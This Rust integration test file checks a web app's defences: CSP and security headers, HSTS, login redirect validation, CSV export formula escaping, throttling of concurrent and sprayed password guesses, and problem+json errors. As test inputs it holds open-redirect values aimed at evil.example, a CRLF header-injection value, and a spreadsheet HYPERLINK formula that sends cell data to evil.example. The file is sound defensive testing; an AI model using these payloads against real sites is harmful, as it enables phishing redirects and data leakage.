//! Web defences: security headers, the login's return address, CSV formula injection, login
//! throttling under concurrency, and problem+json for every API error.

use crate::common;

use crate::common::{Browser, PASSWORD, TestApp};
use reqwest::StatusCode;
use reqwest::header::HeaderMap;
use serde_json::json;
use std::net::{IpAddr, SocketAddr};
use trainyard_app::{App, Settings};
use trainyard_core::Role;

both_backends!(
    security_headers_on_every_response,
    hsts_only_with_secure_cookies,
    pages_carry_no_inline_script_or_style,
    login_never_returns_to_another_site,
    csv_exports_neutralise_formulas,
    concurrent_wrong_passwords_are_checked_at_most_the_limit,
    throttle_ceilings_per_address_and_per_account,
    api_errors_from_layers_are_problem_json,
);

/// Another `trainyard serve` over the same database with its own settings.
async fn serve(app: App, secure_cookies: bool) -> (SocketAddr, tokio::sync::oneshot::Sender<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (tx, rx) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(async move {
        let _ = trainyard_web::serve(listener, app, secure_cookies, async {
            let _ = rx.await;
        })
        .await;
    });
    (addr, tx)
}

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

fn assert_security_headers(what: &str, h: &HeaderMap) {
    let csp = h
        .get("content-security-policy")
        .unwrap_or_else(|| panic!("{what}: no Content-Security-Policy"))
        .to_str()
        .unwrap();
    for directive in [
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "object-src 'none'",
    ] {
        assert!(csp.contains(directive), "{what}: {directive} in {csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
    assert!(!csp.contains("unsafe-eval"), "{what}: {csp}");
    assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(h["referrer-policy"], "same-origin", "{what}");
    assert_eq!(h["x-frame-options"], "DENY", "{what}");
}

async fn security_headers_on_every_response(t: &TestApp) {
    let b = t.browser_as(Role::Coordinator, None).await;
    let api = t.api_as(Role::Coordinator, None).await;
    let anonymous = no_redirects();
    let mut replies = Vec::new();
    for path in [
        "/",
        "/sessions",
        "/courses?format=csv",
        "/assets/trainyard.css",
        "/assets/trainyard.js",
        "/assets/catalog.css",
        "/no-such-page",
    ] {
        let r = b.http.get(t.url(path)).send().await.unwrap();
        replies.push((format!("GET {path} signed in ({})", r.status()), r));
    }
    for path in [
        "/",
        "/login",
        "/catalog",
        "/healthz",
        "/api/v1/openapi.json",
    ] {
        let r = anonymous.get(t.url(path)).send().await.unwrap();
        replies.push((format!("GET {path} anonymous ({})", r.status()), r));
    }
    for path in ["/courses", "/no-such-endpoint"] {
        let r = api
            .http
            .get(format!("{}{path}", api.base))
            .bearer_auth(&api.token)
            .send()
            .await
            .unwrap();
        replies.push((format!("API GET {path} ({})", r.status()), r));
    }
    let r = api
        .http
        .post(format!("{}/courses", api.base))
        .bearer_auth(&api.token)
        .json(&json!({ "code": "" }))
        .send()
        .await
        .unwrap();
    replies.push((format!("API POST invalid ({})", r.status()), r));
    let statuses: Vec<_> = replies.iter().map(|(w, _)| w.clone()).collect();
    for (what, r) in &replies {
        assert_security_headers(what, r.headers());
        assert!(
            r.headers().get("strict-transport-security").is_none(),
            "{what}: no HSTS over plain HTTP"
        );
    }
    assert!(
        statuses.iter().any(|s| s.contains("404")),
        "404s are covered: {statuses:?}"
    );
    // The Swagger UI renders its own markup: a policy of its own, on its path only, still
    // without framing and without foreign scripts.
    let r = anonymous.get(t.url("/api/v1/docs/")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let csp = r.headers()["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
}

async fn hsts_only_with_secure_cookies(t: &TestApp) {
    let (addr, stop) = serve(t.app.clone(), true).await;
    let client = no_redirects();
    for path in [
        "/login",
        "/assets/trainyard.css",
        "/api/v1/courses",
        "/nowhere",
    ] {
        let r = client
            .get(format!("http://{addr}{path}"))
            .send()
            .await
            .unwrap();
        assert_eq!(
            r.headers()["strict-transport-security"],
            "max-age=31536000",
            "{path}"
        );
        assert_security_headers(path, r.headers());
    }
    let _ = stop.send(());
    let r = client.get(t.url("/login")).send().await.unwrap();
    assert!(r.headers().get("strict-transport-security").is_none());
}

/// The CSP allows no inline script or style: the markup must not need any.
async fn pages_carry_no_inline_script_or_style(t: &TestApp) {
    let b = t.browser_as(Role::Manager, None).await;
    let pages = [
        "/",
        "/sessions",
        "/courses",
        "/timeline",
        "/timeline?view=month",
        "/calendar",
        "/admin/outbox",
        "/account/tokens",
        "/plan",
        "/no-such-page",
    ];
    let anonymous = Browser::new(t);
    for path in ["/login", "/catalog"] {
        let (status, html) = anonymous.get(path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert_no_inline(path, &html);
    }
    for path in pages {
        let (_, html) = b.get(path).await;
        assert_no_inline(path, &html);
    }
}

fn assert_no_inline(path: &str, html: &str) {
    let lower = html.to_ascii_lowercase();
    assert!(
        !lower.contains(" style="),
        "{path}: an inline style attribute"
    );
    assert!(!lower.contains("<style"), "{path}: an inline <style>");
    assert!(!lower.contains("javascript:"), "{path}: a javascript: URL");
    for (i, _) in lower.match_indices("<script") {
        let tag = &lower[i..lower[i..].find('>').map(|e| i + e).unwrap_or(lower.len())];
        assert!(tag.contains(" src="), "{path}: an inline script: {tag}");
    }
    for handler in [
        " onclick=",
        " onsubmit=",
        " onload=",
        " onchange=",
        " oninput=",
    ] {
        assert!(
            !lower.contains(handler),
            "{path}: an inline handler {handler}"
        );
    }
}

async fn login_never_returns_to_another_site(t: &TestApp) {
    t.user("nina@example.com", Role::Coordinator, None).await;
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .cookie_store(true)
        .build()
        .unwrap();
    let login = |next: &'static str| {
        client
            .post(t.url("/login"))
            .header("origin", t.url(""))
            .form(&[
                ("email", "nina@example.com"),
                ("password", PASSWORD),
                ("next", next),
            ])
            .send()
    };
    for next in [
        "//evil.example",
        "/\\evil.example",
        "\\/evil.example",
        "https://evil.example",
        "http:/evil.example",
        "evil.example",
        "",
    ] {
        let r = login(next).await.unwrap();
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "next={next:?}");
        assert_eq!(r.headers()["location"], "/", "next={next:?}");
    }
    // A path on this site is followed, query and all.
    let r = login("/sessions?status=confirmed").await.unwrap();
    assert_eq!(r.headers()["location"], "/sessions?status=confirmed");
    // Control characters: browsers drop tabs and newlines, so `/<TAB>/evil.example` would land
    // on `//evil.example`. Refused with 400 (it was a redirect off-site, or a 500).
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r\nSet-Cookie: x=1",
        "/\u{7f}x",
    ] {
        let r = client
            .post(t.url("/login"))
            .header("origin", t.url(""))
            .form(&[
                ("email", "nina@example.com"),
                ("password", PASSWORD),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "next={next:?}");
        assert!(r.headers().get("location").is_none());
        assert!(r.headers().get("set-cookie").is_none(), "no session opened");
    }
    for query in [
        "/%09/evil.example",
        "/%0d%0a/evil.example",
        "%0a//evil.example",
    ] {
        let r = client
            .get(t.url(&format!("/login?next={query}")))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "next={query}");
        let html = r.text().await.unwrap();
        assert!(html.contains("invalid return address"), "{html}");
        assert!(html.contains("name=\"next\" value=\"/\""), "{html}");
    }
    for query in ["//evil.example", "/%5Cevil.example", "https://evil.example"] {
        let r = client
            .get(t.url(&format!("/login?next={query}")))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "next={query}");
        let html = r.text().await.unwrap();
        assert!(
            html.contains("name=\"next\" value=\"/\""),
            "next={query}: {html}"
        );
    }
}

async fn csv_exports_neutralise_formulas(t: &TestApp) {
    let api = t.api_as(Role::Coordinator, None).await;
    let titles = [
        (
            "CSV-1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        ),
        ("CSV-2", "+1"),
        ("CSV-3", "-2"),
        ("CSV-4", "@x"),
        ("CSV-5", "\tx"),
        ("CSV-6", "Excel - Advanced"),
    ];
    for (code, title) in titles {
        let mut body = common::course_body(code);
        body["title"] = json!(title);
        api.create("/courses", &body).await;
    }
    let b = t.browser_as(Role::Coordinator, None).await;
    let (status, csv) = b.get("/courses?format=csv&per_page=10000").await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let head = reader.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let (code, title, days) = (col("Code"), col("Title"), col("Days"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let title_of = |c: &str| {
        rows.iter()
            .find(|r| &r[code] == c)
            .map(|r| r[title].to_owned())
            .unwrap_or_else(|| panic!("{c} in {csv}"))
    };
    assert_eq!(
        title_of("CSV-1"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(title_of("CSV-2"), "'+1");
    assert_eq!(title_of("CSV-3"), "'-2");
    assert_eq!(title_of("CSV-4"), "'@x");
    // Titles are trimmed when saved, so the tab never reaches the export; whatever does, no cell
    // starts with a live formula character.
    assert_eq!(title_of("CSV-5"), "x");
    assert_eq!(
        title_of("CSV-6"),
        "Excel - Advanced",
        "plain values unchanged"
    );
    for r in &rows {
        assert_eq!(&r[days], "2", "numbers unchanged");
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
    }
}

async fn login_status(
    client: &reqwest::Client,
    base: &str,
    email: &str,
    password: &str,
) -> reqwest::Response {
    client
        .post(format!("{base}/login"))
        .header("origin", base)
        .form(&[("email", email), ("password", password), ("next", "/")])
        .send()
        .await
        .unwrap()
}

async fn concurrent_wrong_passwords_are_checked_at_most_the_limit(t: &TestApp) {
    t.user("admin@example.com", Role::Admin, None).await;
    t.user("colleague@example.com", Role::Coordinator, None)
        .await;
    let base = t.url("");
    // All fifteen leave together (connections made first, then a barrier), as a script would.
    let start = std::sync::Arc::new(tokio::sync::Barrier::new(15));
    let tries: Vec<_> = (0..15)
        .map(|i| {
            let (base, start) = (base.clone(), start.clone());
            tokio::spawn(async move {
                let client = no_redirects();
                let _ = client.get(format!("{base}/healthz")).send().await;
                start.wait().await;
                login_status(
                    &client,
                    &base,
                    "admin@example.com",
                    &format!("guess number {i}"),
                )
                .await
                .status()
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for t in tries {
        statuses.push(t.await.unwrap());
    }
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert_eq!(
        (checked, refused),
        (5, 10),
        "five passwords checked, the rest refused: {statuses:?}"
    );

    // The right password is refused too, until the window has passed; the page says how long.
    let client = no_redirects();
    let r = login_status(&client, &base, "admin@example.com", PASSWORD).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: i64 = r.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=15 * 60).contains(&wait), "Retry-After {wait}");
    let html = r.text().await.unwrap();
    assert!(html.contains("Too many sign-in attempts"), "{html}");
    assert!(html.contains("15 minutes"), "{html}");

    // Someone else behind the same address is not locked out (it was every user, admin included).
    let r = login_status(&client, &base, "colleague@example.com", PASSWORD).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);

    // The window passes (moved back rather than waited for): the right password gets in.
    sqlx::query("UPDATE login_throttle SET window_start = window_start - $1")
        .bind(16 * 60_000_i64)
        .execute(t.app.store.pool())
        .await
        .unwrap();
    let r = login_status(&client, &base, "admin@example.com", PASSWORD).await;
    assert_eq!(
        r.status(),
        StatusCode::SEE_OTHER,
        "{}",
        r.text().await.unwrap()
    );
    // A successful login forgives this address its earlier typos for this account.
    let left: i64 = sqlx::Row::get(
        &sqlx::query("SELECT count(*) AS n FROM login_throttle WHERE bucket LIKE 'pair %'")
            .fetch_one(t.app.store.pool())
            .await
            .unwrap(),
        "n",
    );
    assert_eq!(left, 0);
    // Windows that are over are pruned (the colleague's, moved back above, was not touched since).
    let stale: i64 = sqlx::Row::get(
        &sqlx::query("SELECT count(*) AS n FROM login_throttle WHERE bucket = $1")
            .bind("account colleague@example.com")
            .fetch_one(t.app.store.pool())
            .await
            .unwrap(),
        "n",
    );
    assert_eq!(stale, 0);
}

/// A client whose requests come from `ip` (any address of 127/8 reaches the loopback server).
fn client_from(ip: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .local_address(IpAddr::from(ip))
        .build()
        .unwrap()
}

async fn throttle_ceilings_per_address_and_per_account(t: &TestApp) {
    // One attempt per pair: the address ceiling is then 20, the account ceiling 10.
    let settings = Settings {
        max_login_failures: 1,
        ..Settings::default()
    };
    let (addr, stop) = serve(App::new(t.app.store.clone(), settings), false).await;
    let base = format!("http://{addr}");
    t.user("sam@example.com", Role::Coordinator, None).await;

    // Guessing many accounts from one address: the address ceiling stops it.
    let sprayer = client_from([127, 0, 0, 50]);
    for i in 0..20 {
        let r = login_status(
            &sprayer,
            &base,
            &format!("user{i}@example.com"),
            "guess-guess",
        )
        .await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "account {i}");
    }
    let r = login_status(&sprayer, &base, "sam@example.com", PASSWORD).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "address ceiling");
    assert!(r.headers().contains_key("retry-after"));
    // Other addresses are not affected.
    let r = login_status(
        &client_from([127, 0, 0, 51]),
        &base,
        "sam@example.com",
        PASSWORD,
    )
    .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);

    // Guessing one account from many addresses: the account ceiling stops it.
    t.user("target@example.com", Role::Manager, None).await;
    for i in 0..10 {
        let r = login_status(
            &client_from([127, 0, 1, 1 + i]),
            &base,
            "target@example.com",
            "guess-guess",
        )
        .await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "address {i}");
    }
    let r = login_status(
        &client_from([127, 0, 1, 100]),
        &base,
        "target@example.com",
        PASSWORD,
    )
    .await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "account ceiling");
    let _ = stop.send(());
}

/// Reads one HTTP/1.1 reply from a raw socket: status line, headers, and body (by length).
async fn raw_reply(sock: &mut tokio::net::TcpStream) -> (String, String) {
    use tokio::io::AsyncReadExt;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let n = tokio::time::timeout(std::time::Duration::from_secs(10), sock.read(&mut chunk))
            .await
            .expect("a reply within 10 s")
            .unwrap();
        buf.extend_from_slice(&chunk[..n]);
        let text = String::from_utf8_lossy(&buf).into_owned();
        if let Some(end) = text.find("\r\n\r\n") {
            let head = text[..end].to_owned();
            let length = head
                .lines()
                .find_map(|l| {
                    l.to_ascii_lowercase()
                        .strip_prefix("content-length:")
                        .map(|v| v.trim().parse::<usize>().unwrap())
                })
                .unwrap_or(0);
            if buf.len() >= end + 4 + length || n == 0 {
                return (head, text[end + 4..].to_owned());
            }
        }
        if n == 0 {
            return (text, String::new());
        }
    }
}

async fn api_errors_from_layers_are_problem_json(t: &TestApp) {
    use tokio::io::AsyncWriteExt;
    let api = t.api_as(Role::Coordinator, None).await;
    // A body over the limit, refused from its declared length before it is read.
    let mut sock = tokio::net::TcpStream::connect(t.addr).await.unwrap();
    let head = format!(
        "POST /api/v1/courses HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        t.addr,
        api.token,
        3 * 1024 * 1024
    );
    sock.write_all(head.as_bytes()).await.unwrap();
    let (head, body) = raw_reply(&mut sock).await;
    assert!(head.starts_with("HTTP/1.1 413"), "{head}");
    assert!(
        head.to_ascii_lowercase()
            .contains("content-type: application/problem+json"),
        "{head}"
    );
    let problem: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(problem["status"], 413);
    assert_eq!(problem["type"], "https://trainyard.dev/problems/too-large");
    assert_security_headers("413", &{
        let mut h = HeaderMap::new();
        for line in head.lines().skip(1) {
            if let Some((k, v)) = line.split_once(':') {
                h.insert(
                    reqwest::header::HeaderName::from_bytes(k.trim().as_bytes()).unwrap(),
                    v.trim().parse().unwrap(),
                );
            }
        }
        h
    });

    // A method the endpoint does not have: 405 problem+json, Allow kept.
    let r = api
        .http
        .patch(format!("{}/courses", api.base))
        .bearer_auth(&api.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(r.headers()["content-type"], "application/problem+json");
    assert!(r.headers().contains_key("allow"));
    let problem: serde_json::Value = r.json().await.unwrap();
    assert_eq!(problem["status"], 405);

    // Not JSON at all: 415 problem+json that says what to send.
    let r = api
        .http
        .post(format!("{}/courses", api.base))
        .bearer_auth(&api.token)
        .header("content-type", "text/plain")
        .body("code=X")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(r.headers()["content-type"], "application/problem+json");
    let problem: serde_json::Value = r.json().await.unwrap();
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("application/json"),
        "{problem}"
    );

    // The UI is not the API: a wrong method on a page is not turned into JSON.
    let b = t.browser_as(Role::Coordinator, None).await;
    let r = b
        .http
        .patch(t.url("/courses"))
        .header("origin", t.url(""))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED);
    assert_ne!(
        r.headers().get("content-type").map(|v| v.to_str().unwrap()),
        Some("application/problem+json")
    );
}
